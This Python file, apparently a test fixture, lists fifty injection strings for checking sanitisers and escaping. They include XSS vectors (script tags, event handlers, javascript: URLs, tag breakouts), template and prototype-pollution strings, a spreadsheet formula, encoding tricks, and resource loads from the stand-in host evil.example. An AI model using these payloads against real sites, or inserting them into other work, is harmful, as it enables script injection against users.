"""Fifty texts that would run something if they were taken for markup, an address or a formula anywhere. Each sets `window.ran` or opens a dialog."""

PAYLOADS = (
    "<script>window.ran=1</script>", "</script><script>window.ran=2</script>", "<img src=x onerror=window.ran=3>", "<svg/onload=window.ran=4>", "<svg><script>window.ran=5</script></svg>",
    "<body onload=window.ran=6>", "<iframe src=javascript:window.ran=7>", "<iframe srcdoc='<script>parent.ran=8</script>'>", "javascript:window.ran=9", "JaVaScRiPt:window.ran=10",
    "java\tscript:window.ran=11", "data:text/html,<script>window.ran=12</script>", "vbscript:window.ran=13", "<a href=javascript:window.ran=14>x</a>", "<math><a xlink:href=javascript:window.ran=15>x</a></math>",
    "<details open ontoggle=window.ran=16>", "<input autofocus onfocus=window.ran=17>", "<video><source onerror=window.ran=18></video>", "<audio src=x onerror=window.ran=19>", "<object data=javascript:window.ran=20>",
    "<embed src=javascript:window.ran=21>", "<meta http-equiv=refresh content='0;url=javascript:window.ran=22'>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>",
    "</style><style>*{display:none}</style>", "</title><script>window.ran=27</script>", "</textarea><script>window.ran=28</script>", "<!--<script>window.ran=29//--></script>", "]]><script>window.ran=30</script>",
    "<template><script>window.ran=31</script></template>", "<noscript><p title='</noscript><img src=x onerror=window.ran=32>'>", "<form action=javascript:window.ran=33><input type=submit>", "<button formaction=javascript:window.ran=34>", "<marquee onstart=window.ran=35>",
    "\"><script>window.ran=36</script>", "'><img src=x onerror=window.ran=37>", "\" onmouseover=\"window.ran=38", "' autofocus onfocus='window.ran=39", "`${window.ran=40}`",
    "{{constructor.constructor('window.ran=41')()}}", "${alert(42)}", "=HYPERLINK(\"javascript:window.ran=43\")", "__proto__", "constructor",
    "\u202ealert(46)\u202c<script>window.ran=46</script>", "\ufeff<script>window.ran=47</script>", "<scr\u0000ipt>window.ran=48</scr\u0000ipt>", "&lt;script&gt;window.ran=49&lt;/script&gt;", "&#60;img src=x onerror=window.ran=50&#62;",
)  # fmt: skip
